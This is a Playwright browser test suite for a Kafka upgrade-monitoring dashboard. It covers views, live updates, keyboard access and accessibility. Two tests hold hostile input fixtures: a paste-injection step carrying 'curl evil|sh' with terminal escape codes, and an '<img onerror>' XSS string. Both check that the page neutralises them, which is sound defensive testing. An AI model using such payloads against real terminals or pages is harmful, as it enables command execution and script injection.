"""The page in Chromium: its views, live changes, the keyboard, hostile names, both schemes.

Needs Chromium on the PATH (Debian: chromium) and the group ``web``; left out without them.
"""

import time
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, asynccontextmanager
from dataclasses import dataclass, field, replace
from typing import Any
from urllib.parse import quote

import pytest

from featurewatch.streams.outputs import AlertState, Migration, Severity
from featurewatch.streams.types import NodeId
from featurewatch.tables.image.cluster import ClusterImage
from featurewatch.web.model import FleetModel
from featurewatch.web.server import PageServer
from featurewatch.web.settings import PageSettings
from featurewatch.web.worker_rows import WorkerRows
from tests.processes import free_port
from tests.web.chromium import CHROMIUM, NO_CHROMIUM, NO_PLAYWRIGHT
from tests.web.rolls import ROLLED, publish, rolling
from tests.web.samples import (
    alert_of,
    change_of,
    message_of,
    nodes_on,
    operation_of,
    publish_history,
    state_of,
)

if CHROMIUM is None:
    pytest.skip(NO_CHROMIUM, allow_module_level=True)
playwright_api = pytest.importorskip("playwright.async_api", reason=NO_PLAYWRIGHT)
expect = playwright_api.expect
pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]

DEADLINE_MS = 30_000
STEPS = "upgrade:release%3D4.0%0Arestart:all@4.0%0Aupgrade:release%3D4.0"
OF_CLUSTER = f"&cluster={ROLLED}"
CLUSTER_VIEWS = {
    f"?view=history&from=1&to=2{OF_CLUSTER}": "21 (3.9-IV0)",
    f"?view=upgrade{OF_CLUSTER}": "Restart the controllers on Kafka 4.0",
    f"?view=picture{OF_CLUSTER}": "Picture of the roll",
    f"?view=operations{OF_CLUSTER}": "Topic orders was created",
    f"?view=nodes{OF_CLUSTER}": "no node is known to differ",
    f"?view=quorum{OF_CLUSTER}": "how many voters may fail",
    f"?view=migration{OF_CLUSTER}": "no migration is in progress",
    f"?view=rehearsal&steps={STEPS}{OF_CLUSTER}": "12 stops and starts",
}
"""The views of a cluster beside its roll, and what each shows."""

MARKUP = "<img src=x onerror=document.title='bad'>"
CLUSTER = f"?view=cluster&cluster={ROLLED}"


def now_ms() -> int:
    """The wall clock."""
    return time.time_ns() // 1_000_000


FOCUS = """() => {
  const element = document.activeElement;
  const box = element.getBoundingClientRect();
  const y = box.top + Math.min(box.height / 2, 8);
  const top = document.elementFromPoint(box.left + box.width / 2, y);
  const isShown = Boolean(top) && (element.contains(top) || top.contains(element));
  return [element.textContent.trim(), getComputedStyle(element).outlineStyle, isShown];
}"""
"""The focused element's text, its outline, and whether nothing covers it."""

TOO_WIDE = """[document.documentElement, ...document.querySelectorAll('.scroll')]
  .filter((element) => element.scrollWidth > element.clientWidth + 1)
  .map((element) => element.ariaLabel || element.tagName)"""
"""What scrolls sideways."""


def add_history(shown: "Tab") -> None:
    """Two revisions and an operation."""
    old = state_of(ROLLED, nodes_on("3.9", 1, 2, 3), level=19, revision=1)
    new = state_of(ROLLED, nodes_on("3.9", 2, 3), nodes_on("4.0", 1), level=21, revision=2)
    publish_history(shown.server.model, old, new, operation_of(ROLLED))
    shown.server.notify()


@dataclass
class Tab:
    """A served model, a tab that shows it, and what its console had."""

    server: PageServer
    page: Any
    servers: AsyncExitStack
    console: list[str] = field(default_factory=list)

    async def open(self, query: str = "") -> None:
        """Loads a view and waits until it has rows."""
        await self.page.goto(self.server.url + query)
        await expect(self.page.locator("tbody th").first).to_be_visible(timeout=DEADLINE_MS)

    async def shows(self, text: str) -> None:
        """Waits until the page shows a text."""
        await expect(self.page.get_by_text(text).first).to_be_visible(timeout=DEADLINE_MS)

    async def restart(self, image: ClusterImage) -> None:
        """Ends the server, and starts one that knows this cluster at the same address."""
        await self.servers.aclose()
        self.server = _server(image, "another", port=self.server.port)
        await self.servers.enter_async_context(self.server.serving())

    def apply(self, *outputs: Any) -> None:
        """New messages."""
        for output in outputs:
            self.server.model.apply(*message_of(output), now_ms())
        self.server.notify()


def _server(image: ClusterImage, boot: str, *outputs: Any, port: int) -> PageServer:
    """A server of one cluster with the rows of a worker, and of these outputs."""
    model, rows, at_ms = FleetModel(boot), WorkerRows(), now_ms()
    rows.end_reading()
    publish(image, model, rows, at_ms)
    for output in outputs:
        model.apply(*message_of(output), at_ms)
    model.error = None
    model.end_reading(at_ms)
    return PageServer(PageSettings(port=port), model, rows, now_ms, lambda: 0.0)


@asynccontextmanager
async def tab(browser: Any, *outputs: Any, **context: Any) -> AsyncIterator[Tab]:
    """A browser on a cluster in the middle of a roll, and on these outputs."""
    image = rolling("4.0", "3.9", "3.9")
    server = _server(image, "boot", *outputs, port=free_port())
    async with AsyncExitStack() as servers:
        await servers.enter_async_context(server.serving())
        made = await browser.new_context(viewport={"width": 1440, "height": 900}, **context)
        page = await made.new_page()
        shown = Tab(server, page, servers)
        page.on("console", lambda message: shown.console.append(message.text))
        page.on("pageerror", lambda error: shown.console.append(str(error)))
        try:
            yield shown
        finally:
            await made.close()


async def test_every_view_shows_its_content_and_the_console_stays_empty(browser: Any) -> None:
    """Fleet, cluster, alerts and sources, with a policy that would report any violation."""
    async with tab(browser, alert_of(ROLLED, 2), change_of(ROLLED)) as shown:
        await shown.open()
        await shown.shows("1 of 3 on 4.0")
        await shown.page.get_by_role("link", name=ROLLED).click()
        for text in (
            "1 of 3 nodes on 4.0",
            "not ready",
            "start it on Kafka 4.0 to 4.4",
            "Controller 1 (Kafka 4.0) would refuse, with this text:",
            "known faults on the way",
            "A group coordinator may fail to load",
            "Broker 2 must be upgraded.",
            "19 (3.7-IV4) → 25 (4.0-IV3)",
        ):
            await shown.shows(text)
        await expect(shown.page.locator("#left dd .mono").first).to_have_text("2-3")
        await shown.open("?view=alerts")
        await shown.shows("Broker 2 must be upgraded.")
        await shown.open("?view=sources")
        await shown.shows("following")
        await shown.open("?view=releases&target=4.0")
        await shown.shows("broker 2, broker 3, controller 2, controller 3")
        add_history(shown)
        for query, text in CLUSTER_VIEWS.items():
            await shown.page.goto(shown.server.url + query)
            await shown.shows(text)
        assert shown.console == []


async def test_two_revisions_are_chosen_and_compared(browser: Any) -> None:
    """What differs is shown, what does not is folded, and the address has both revisions."""
    async with tab(browser) as shown:
        add_history(shown)
        await shown.open(f"?view=history{OF_CLUSTER}")
        await shown.page.get_by_role("button", name="Compare").click()
        await shown.shows("Revision 1 to 2")
        await shown.shows("1 changed level")
        assert {"from=1", "to=2"} <= {*shown.page.url.split("?")[1].split("&")}
        folded = shown.page.get_by_text("Unchanged: 0 levels, 2 nodes")
        await expect(shown.page.locator("details li")).to_be_hidden(timeout=DEADLINE_MS)
        await folded.click()
        await expect(shown.page.locator("details li")).to_have_text("brokers 2-3 3.9")
        publish_history(shown.server.model, state_of(ROLLED, level=25, revision=3))
        shown.server.notify()
        await shown.shows("3 of 3 revisions")
        assert shown.console == []


async def test_a_picture_is_read_by_pointer_keys_and_tables(browser: Any) -> None:
    """Bands by release and condition; a cursor tells a node's state, keys zoom, tables have all."""
    begin = now_ms() - 3_600_000
    fenced = replace(nodes_on("3.9", 1), fenced=(NodeId(1),))
    classes = ((nodes_on("3.9", 1),), (fenced,), (nodes_on("4.0", 1),), (nodes_on("4.0", 1),))
    times = (0, 30_000, 60_000, 100_000)
    states = [
        state_of("p", *nodes, at_ms=begin + at, level=25)
        for nodes, at in zip(classes, times, strict=True)
    ]
    change = change_of("p", append_ms=begin + 80_000)
    async with tab(browser, *states, change, alert_of("p", since_ms=begin)) as shown:
        await shown.page.goto(f"{shown.server.url}?view=picture&cluster=p")
        await expect(shown.page.locator("svg path.band")).to_have_count(3, timeout=DEADLINE_MS)
        await expect(shown.page.locator("svg text.gap")).to_have_text("unknown")
        await expect(shown.page.locator("svg .level.end")).to_contain_text("no way back")
        await shown.page.locator(".picture").focus()
        for _ in range(3):
            await shown.page.keyboard.press("ArrowLeft")
        await expect(shown.page.locator(".told")).to_contain_text("3.9, fenced")
        await expect(shown.page.get_by_role("status")).to_contain_text("3.9, fenced")
        for _ in range(5):
            await shown.page.keyboard.press("+")
        await expect(shown.page.locator("svg text.gap")).to_have_count(0)
        await shown.page.keyboard.press("0")
        await shown.page.get_by_text("The picture as tables").click()
        row = shown.page.get_by_role("row", name="broker 1 3", exact=False)
        await expect(row).to_contain_text("4.0 from")
        await expect(row).to_contain_text("3.9, fenced from")
        await shown.shows("There is no way back")
        assert shown.console == []


async def test_an_upgrade_is_led_step_by_step(browser: Any) -> None:
    """The next node with its command; it follows the roll and alerts, and a command that raises
    levels is held back until nothing is in the way."""
    async with tab(browser) as shown:
        await shown.open(f"?view=upgrade{OF_CLUSTER}")
        page, command = shown.page, shown.page.locator(".next .command code")
        await expect(command).to_contain_text("check restart --node 2 --wait")
        await shown.shows("the page holds no partitions")
        await shown.shows("Point of no return ahead: step")
        step = page.get_by_role("row", name="Let all nodes run Kafka 4.0", exact=False)
        await expect(step).to_contain_text("restart the nodes on Kafka 3.9")
        await step.get_by_text("needs, changes, commands").focus()
        await page.keyboard.press("Enter")
        await expect(step).to_contain_text("look at latency, errors and consumer lag")
        publish(rolling("4.0", "4.0", "4.0"), shown.server.model, shown.server.rows, now_ms())
        shown.apply(alert_of(ROLLED, 3))
        await expect(page.locator(".next")).to_contain_text("Finalize the levels of Kafka 4.0")
        await shown.shows("1 check says no")
        await shown.shows("Its command comes here when nothing is in the way.")
        await expect(command).to_have_count(0)
        shown.apply(alert_of(ROLLED, 3, state=AlertState.RESOLVED, at_ms=now_ms()))
        await expect(command.first).to_contain_text("upgrade finalize --plan plan.yaml")
        await shown.shows("nothing is in the way")
        await page.get_by_role("link", name="4.4", exact=True).click()
        await shown.shows("Restart the controllers on Kafka 4.4")
        assert shown.console == []


async def test_steps_are_rehearsed(browser: Any) -> None:
    """A form takes them, a result names each, and a step that is wrong is explained."""
    async with tab(browser) as shown:
        await shown.page.goto(f"{shown.server.url}?view=rehearsal{OF_CLUSTER}")
        steps = shown.page.get_by_label("Steps, one per line")
        await steps.fill("explode:broker-1")
        await shown.page.get_by_role("button", name="Rehearse", exact=True).click()
        await shown.shows("is wrong")
        await steps.fill("stop:broker-2")
        await shown.page.get_by_role("button", name="Rehearse", exact=True).click()
        await expect(shown.page.locator("tbody th")).to_have_text("stop:broker-2")
        await shown.shows("by controller 1, Kafka 4.0")
        assert "stop" in shown.page.url
        assert all("400" in line for line in shown.console)


async def test_a_command_to_copy_has_nothing_that_a_terminal_obeys(browser: Any) -> None:
    """The steps come from the address, which anybody may have written; what a paste would run is
    left out, as it is not seen."""
    step = quote("stop:broker-1\x1b[201~\x03curl evil|sh\r\u202e#")
    async with tab(browser) as shown:
        await shown.page.goto(f"{shown.server.url}?view=rehearsal&steps={step}{OF_CLUSTER}")
        command = shown.page.locator("p.command code")
        await expect(command).to_contain_text("'stop:broker-1[201~curl evil|sh#'")
        assert (await command.text_content() or "").isprintable()


async def test_nodes_are_drawn_one_by_one_on_demand(browser: Any) -> None:
    """A cluster of a thousand nodes has two classes, and each node where it is wanted."""
    large = state_of(
        "large", nodes_on("3.9", *range(1, 500)), nodes_on("4.0", *range(500, 1001)), at_ms=now_ms()
    )
    async with tab(browser, large) as shown:
        await shown.open("?view=cluster&cluster=large")
        await shown.shows("501 of 1000 nodes on 4.0")
        await expect(shown.page.locator("#left dd .mono").first).to_have_text("1-499")
        assert await shown.page.locator(".grid li").count() == 0
        await shown.page.get_by_text("Each node (1000)").click()
        await expect(shown.page.locator(".grid li")).to_have_count(1000, timeout=DEADLINE_MS)
        await expect(shown.page.locator(".grid li").nth(498)).to_contain_text("499 left")
        await expect(shown.page.locator(".grid li").nth(499)).to_contain_text("500 newest")


async def test_a_migration_warns_in_every_view_of_its_cluster(browser: Any) -> None:
    """State, missing brokers, and what not to do."""
    migration = Migration("pre-migration", True, 3000, 3, (NodeId(2), NodeId(3)))
    moving = state_of("moving", at_ms=now_ms(), migration=migration)
    async with tab(browser, moving) as shown:
        await shown.open("?view=cluster&cluster=moving")
        await shown.shows("do not change metadata.version now")
        await shown.page.get_by_role("link", name="Progress of the migration").click()
        await shown.shows("pre-migration")
        await expect(shown.page.locator("dl").last).to_contain_text("2-3")


async def test_without_scripts_the_page_names_the_api_and_the_commands(browser: Any) -> None:
    """In <noscript>."""
    async with tab(browser, java_script_enabled=False) as shown:
        await shown.page.goto(shown.server.url)
        text = await shown.page.locator("noscript p").inner_text(timeout=DEADLINE_MS)
        assert "api/v1/clusters" in text
        assert "featurewatch state --follow" in text


async def test_a_roll_is_followed_to_its_end_without_a_reload(browser: Any) -> None:
    """Node by node on the open page, with the verdict; then an alert fires and resolves."""
    async with tab(browser) as shown:
        await shown.open(CLUSTER)
        await shown.page.evaluate("window.isSamePage = true")
        for step, releases in enumerate((("4.0", "4.0", "3.9"), ("4.0", "4.0", "4.0")), start=2):
            publish(rolling(*releases), shown.server.model, shown.server.rows, now_ms())
            shown.server.notify()
            await shown.shows(f"{step} of 3 nodes on 4.0")
        await shown.shows("ready to finalize")
        await expect(shown.page.get_by_role("status")).to_contain_text("of 3 nodes on 4.0")
        shown.apply(alert_of(ROLLED, 3))
        await shown.shows("Broker 3 must be upgraded.")
        shown.apply(alert_of(ROLLED, 3, state=AlertState.RESOLVED, at_ms=now_ms()))
        await shown.shows("no alert fires")
        assert await shown.page.evaluate("window.isSamePage") is True
        assert shown.console == []


async def test_the_page_continues_after_a_restart_of_the_server(browser: Any) -> None:
    """A new process on the same port does not know the earlier stream: all is read again."""
    async with tab(browser) as shown:
        await shown.open(CLUSTER)
        await shown.shows("1 of 3 nodes on 4.0")
        await shown.page.evaluate("window.isSamePage = true")
        await shown.restart(rolling("4.0", "4.0", "3.9"))
        await shown.shows("2 of 3 nodes on 4.0")
        assert await shown.page.evaluate("window.isSamePage") is True


async def test_more_tabs_than_connections_are_live(browser: Any) -> None:
    """Eight tabs share one stream; when the one that reads it is closed, another takes over."""
    async with tab(browser) as shown:
        pages = [shown.page, *[await shown.page.context.new_page() for _ in range(7)]]
        for page in pages:
            await page.goto(shown.server.url)
            await expect(page.locator(".fresh")).to_contain_text("live", timeout=DEADLINE_MS)
        assert shown.server.streams.count == 1
        shown.apply(alert_of(ROLLED))
        for page in pages:
            await expect(page.locator("tbody tr").first).to_contain_text(
                "critical", timeout=DEADLINE_MS
            )
        await pages[0].close()
        shown.apply(alert_of(ROLLED, 2))
        for page in pages[1:]:
            await expect(page.locator("tbody tr").first).to_contain_text(
                "2 critical", timeout=DEADLINE_MS
            )


async def test_a_refused_stream_is_requested_again(browser: Any) -> None:
    """503, as there are too many: the page is not live, its content is there, and it comes back."""
    async with tab(browser) as shown:
        shown.server.streams.count = shown.server.settings.max_streams
        await shown.open()
        await expect(shown.page.locator(".fresh")).to_contain_text("lost", timeout=DEADLINE_MS)
        shown.server.streams.count = 0
        await expect(shown.page.locator(".fresh")).to_contain_text("live", timeout=DEADLINE_MS)
        shown.apply(alert_of(ROLLED))
        await shown.shows("1 critical")
        assert all("503" in line for line in shown.console)


async def test_history_that_cannot_be_read_is_unknown(browser: Any) -> None:
    """With the reason; the rest of the view is there, and it is read later without a reload."""
    async with tab(browser) as shown:
        shown.server.model.history.error = "this login may not read topic epochs"
        await shown.page.goto(f"{shown.server.url}?view=history{OF_CLUSTER}")
        await shown.shows("this login may not read topic epochs")
        await shown.shows("1 of 3 nodes on 4.0")
        add_history(shown)
        await shown.shows("2 of 2 revisions")


async def test_what_an_event_carries_is_not_fetched_again(browser: Any) -> None:
    """A cluster's state, alerts, changes, revisions and alerts of all; a state that is too large to
    be carried is fetched, and only that."""
    fetched: list[str] = []
    async with tab(browser, state_of("c", at_ms=now_ms()), alert_of("c", 9)) as shown:
        shown.page.on("request", lambda request: fetched.append(request.url.rsplit("/", 1)[-1]))
        await shown.open("?view=cluster&cluster=c")
        await expect(shown.page.locator(".fresh")).to_contain_text("live", timeout=DEADLINE_MS)
        fetched.clear()
        shown.apply(alert_of("c", 3), change_of("c", 2))
        await shown.shows("Broker 3 must be upgraded.")
        await shown.shows("19 (3.7-IV4) → 25 (4.0-IV3)")
        shown.apply(state_of("c", nodes_on("4.0", 1), nodes_on("3.9", 2), at_ms=now_ms()))
        await shown.shows("1 of 2 nodes on 4.0")
        shown.apply(alert_of("c", 3, state=AlertState.RESOLVED, at_ms=now_ms()))
        await expect(shown.page.get_by_text("Broker 3 must be upgraded.")).to_have_count(0)
        assert {*fetched} <= {"readiness"}
        shown.apply(state_of("c", nodes_on("4.0", *range(1_001)), at_ms=now_ms()))
        await shown.shows("1001 of 1001 nodes on 4.0")
        assert {*fetched} <= {"readiness", "c"}
        add_history(shown)
        await shown.open(f"?view=history{OF_CLUSTER}")
        await shown.shows("2 of 2 revisions")
        await expect(shown.page.locator(".fresh")).to_contain_text("live", timeout=DEADLINE_MS)
        fetched.clear()
        publish_history(shown.server.model, state_of(ROLLED, level=25, revision=3))
        shown.server.notify()
        await shown.shows("3 of 3 revisions")
        assert fetched == []
        await shown.open("?view=alerts")
        await expect(shown.page.locator(".fresh")).to_contain_text("live", timeout=DEADLINE_MS)
        fetched.clear()
        shown.apply(alert_of("c", 7))
        await shown.shows("Broker 7 must be upgraded.")
        await shown.shows("2 alerts, most severe")
        assert fetched == []


async def test_markup_in_names_is_text(browser: Any) -> None:
    """A cluster, a node's feature and a summary with markup are shown as they are written."""
    summary = f"{MARKUP} must be upgraded."
    named = state_of(MARKUP, at_ms=now_ms(), name="<b>orders</b>")
    async with tab(browser, named, alert_of(MARKUP, summary=summary)) as shown:
        await shown.open()
        await shown.page.get_by_role("link", name=MARKUP).click()
        await shown.shows(summary)
        await expect(shown.page.locator("h1")).to_contain_text("<b>orders</b>")
        assert await shown.page.title() == f"{MARKUP} roll – featurewatch"
        assert await shown.page.locator("img").count() == 0
        assert [line for line in shown.console if "503" not in line] == []


async def test_rows_stay_where_they_are_until_they_are_sorted(browser: Any) -> None:
    """A cluster that becomes critical is marked in its place, and one button sorts again."""
    others = [state_of(f"cluster-{number}", at_ms=now_ms()) for number in range(5)]
    async with tab(browser, *others) as shown:
        await shown.open()
        rows = shown.page.locator("tbody th")
        before = await rows.all_text_contents()
        shown.apply(alert_of("cluster-4"))
        await expect(shown.page.locator("tr[data-cluster=cluster-4]")).to_contain_text(
            "critical", timeout=DEADLINE_MS
        )
        assert await rows.all_text_contents() == before
        await shown.page.get_by_role("button", name="sort again").click()
        await expect(rows.first).to_have_text("cluster-4", timeout=DEADLINE_MS)


async def test_the_list_is_filtered_by_what_is_to_be_done(browser: Any) -> None:
    """Clusters in a roll, with the count of all of them; the filter is in the address."""
    others = [state_of(f"cluster-{number}", at_ms=now_ms()) for number in range(3)]
    async with tab(browser, *others) as shown:
        await shown.open()
        await shown.page.get_by_role("link", name="mixed releases 1").click()
        await expect(shown.page.locator("caption")).to_contain_text("1 of 1", timeout=DEADLINE_MS)
        await expect(shown.page.locator("tbody th")).to_have_text(ROLLED)
        await shown.page.get_by_role("link", name="ready to finalize 3").click()
        await expect(shown.page.locator("caption")).to_contain_text("3 of 3", timeout=DEADLINE_MS)
        assert "state=ready" in shown.page.url


async def test_every_view_has_its_content_as_json(browser: Any) -> None:
    """By links that a script may follow; the keys are listed by a button, too."""
    async with tab(browser) as shown:
        add_history(shown)
        for query in ("", CLUSTER, "?view=releases&target=4.0", *CLUSTER_VIEWS):
            await shown.page.goto(shown.server.url + query)
            await expect(shown.page.locator("footer a").first).to_be_visible(timeout=DEADLINE_MS)
            for link in await shown.page.locator("footer a").all():
                address = await link.evaluate("(anchor) => anchor.href")
                response = await shown.page.request.get(address)
                assert response.ok, address
                assert "json" in response.headers["content-type"]
        await shown.page.get_by_role("button", name="Keys").click()
        await shown.shows("next and previous row")
        await shown.page.get_by_label("single keys").uncheck()
        await shown.page.keyboard.press("/")
        assert await shown.page.evaluate("document.activeElement.type") != "search"


async def test_it_fits_a_narrow_window(browser: Any) -> None:
    """At 320 pixels nothing scrolls sideways (WCAG 1.4.10): rows are cards, whose values have the
    names of their columns, and they are still tables for a screen reader."""
    async with tab(browser) as shown:
        add_history(shown)
        await shown.page.set_viewport_size({"width": 320, "height": 700})
        for query in ("", CLUSTER, "?view=releases&target=4.0", *CLUSTER_VIEWS):
            await shown.page.goto(shown.server.url + query)
            await shown.shows(ROLLED)
            assert await shown.page.evaluate(TOO_WIDE) == [], query
        await shown.open(f"?view=history{OF_CLUSTER}")
        value = shown.page.get_by_role("cell").filter(has_text="21 (3.9-IV0)").first
        label = await value.evaluate("(cell) => getComputedStyle(cell, '::before').content")
        assert label.startswith('"metadata.version"')
        header = shown.page.get_by_role("columnheader", name="metadata.version")
        await expect(header).to_be_attached()


async def test_it_is_used_by_the_keyboard(browser: Any) -> None:
    """The skip link comes first; / finds, j goes to a row, Enter opens it, p pauses."""
    async with tab(browser, state_of("other", at_ms=now_ms())) as shown:
        await shown.open()
        await shown.page.keyboard.press("Tab")
        focused = "document.activeElement.textContent"
        assert await shown.page.evaluate(focused) == "Skip to the content"
        await shown.page.keyboard.press("Escape")
        await shown.page.keyboard.press("/")
        await shown.page.keyboard.type("oth")
        await shown.page.keyboard.press("Enter")
        await expect(shown.page.locator("caption")).to_contain_text("1 of 1", timeout=DEADLINE_MS)
        await shown.page.keyboard.press("Escape")
        await shown.page.keyboard.press("j")
        await shown.page.keyboard.press("Enter")
        await expect(shown.page.locator("h1")).to_contain_text("other", timeout=DEADLINE_MS)
        await shown.page.keyboard.press("p")
        await shown.shows("paused")
        shown.apply(alert_of("other", severity=Severity.CRITICAL))
        await shown.page.keyboard.press("p")
        await shown.shows("Broker 1 must be upgraded.")


@pytest.mark.parametrize("scheme", ["light", pytest.param("dark", marks=pytest.mark.nightly)])
async def test_axe_finds_nothing(browser: Any, scheme: str) -> None:
    """WCAG's rules hold in every view, in both schemes, and with forced colours."""
    axe = pytest.importorskip("axe_playwright_python.async_playwright")
    migration = Migration("pre-migration", True, 3000, 3, (NodeId(2), NodeId(3)))
    outputs = [
        alert_of(ROLLED, 2),
        change_of(ROLLED),
        state_of("old", nodes_on("3.9", 1), at_ms=now_ms() - 3_600_000),
        state_of("moving", at_ms=now_ms(), migration=migration),
    ]
    views = {
        "": "1 of 3 on 4.0",
        CLUSTER: "2-3",
        "?view=alerts": "Broker 2 must",
        "?view=sources": "following",
        "?view=releases&target=4.0": "broker 2, broker 3",
        "?view=migration&cluster=moving": "in progress",
        "?view=cluster&cluster=missing": "No cluster",
        **CLUSTER_VIEWS,
    }
    async with tab(browser, *outputs, color_scheme=scheme, reduced_motion="reduce") as shown:
        add_history(shown)
        for query, text in views.items():
            await shown.page.goto(shown.server.url + query)
            await shown.shows(text)
            if query == CLUSTER:
                await shown.page.get_by_text("Each node (3)").click()
            for forced in ("none", "active"):
                await shown.page.emulate_media(forced_colors=forced)
                found = await axe.Axe().run(shown.page)
                assert found.violations_count == 0, (query, forced, found.generate_report())


async def test_focus_is_visible_and_the_keyboard_reaches_everything(browser: Any) -> None:
    """Each link, button and field is reached by Tab, has an outline, and nothing covers it."""
    async with tab(browser) as shown:
        add_history(shown)
        await shown.open(f"?view=history&from=1&to=2{OF_CLUSTER}")
        focusable = "a[href], button, input, select, textarea, summary, .scroll"
        count = await shown.page.locator(focusable).count()
        reached = []
        for _ in range(count):
            await shown.page.keyboard.press("Tab")
            reached.append(await shown.page.evaluate(FOCUS))
        assert all(outline != "none" for _, outline, _ in reached), reached
        assert all(is_shown for _, _, is_shown in reached), reached
        names = [name for name, _, _ in reached]
        assert names[0] == "Skip to the content"
        assert {"Compare", "Rehearsal", "pause", "from 1"} <= {*names}
        assert names.count("Skip to the content") == 1


async def test_a_thousand_clusters_are_listed(browser: Any) -> None:
    """The first hundred at once, the totals of all, and more on demand."""
    states = [state_of(f"c-{number:04}", at_ms=now_ms()) for number in range(1_000)]
    async with tab(browser, *states) as shown:
        await shown.open()
        await expect(shown.page.locator("caption")).to_contain_text("100 of 1001")
        await shown.page.get_by_role("button", name="Show more").click()
        await expect(shown.page.locator("caption")).to_contain_text(
            "200 of 1001", timeout=DEADLINE_MS
        )
